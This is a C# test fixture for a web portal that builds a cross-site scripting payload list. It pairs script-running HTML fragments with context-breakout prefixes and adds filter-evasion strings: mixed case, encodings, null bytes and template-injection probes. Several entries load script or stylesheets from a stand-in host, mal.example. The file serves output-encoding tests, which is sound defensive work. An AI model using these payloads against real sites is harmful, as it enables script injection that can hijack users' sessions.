namespace GrcPortal.Web.Tests.Attacks;

/// <summary>Texts that become script where a page forgets to encode: ways to run it × ways out of where the text stands × disguises.</summary>
internal static class ScriptPayloads
{
    private static readonly string[] Runs =
    [
        "<script>alert(1)</script>", "<script src=//mal.example/x.js></script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe src=javascript:alert(1)></iframe>",
        "<body onload=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<form action=javascript:alert(1)><button>x</button></form>", "<button formaction=javascript:alert(1)>x</button>",
        "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>", "<math><a xlink:href=javascript:alert(1)>x</a></math>",
        "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>", "<base href=//mal.example/>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<style>@import'//mal.example/x.css'</style>",
        "<link rel=stylesheet href=//mal.example/x.css>", "<input autofocus onfocus=alert(1)>", "<select onfocus=alert(1) autofocus>",
        "<textarea autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>", "<xss style=animation-name:x onanimationstart=alert(1)>",
    ];

    private static readonly string[] WaysOut =
    [
        "{0}", "\">{0}", "'>{0}", "</textarea>{0}", "</title>{0}", "</script>{0}", "-->{0}", "]]>{0}", "\\\";{0}//", "&lt;/dd&gt;{0}", "`{0}",
    ];

    private static readonly string[] Alone =
    [
        "\" onmouseover=alert(1) x=\"", "' onfocus=alert(1) autofocus x='", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)",
        "\u0001javascript:alert(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)", "{{constructor.constructor('alert(1)')()}}",
        "${alert(1)}", "<%= 7*7 %>", "@(7*7)", "{{7*7}}", "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E",
        "\u003cscript\u003ealert(1)\u003c/script\u003e", "＜script＞alert(1)＜/script＞", "<scr\0ipt>alert(1)</scr\0ipt>".Replace("\0", "", StringComparison.Ordinal),
        "<<script>alert(1)//<</script>", "<sCrIpT>alert(1)</ScRiPt>", "<img/src=x/onerror=alert(1)>", "<svg/onload=alert(1)//", "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    ];

    public static IReadOnlyList<string> All { get; } = [.. WaysOut.SelectMany(way => Runs.Select(run => way.Replace("{0}", run, StringComparison.Ordinal))), .. Alone];
}
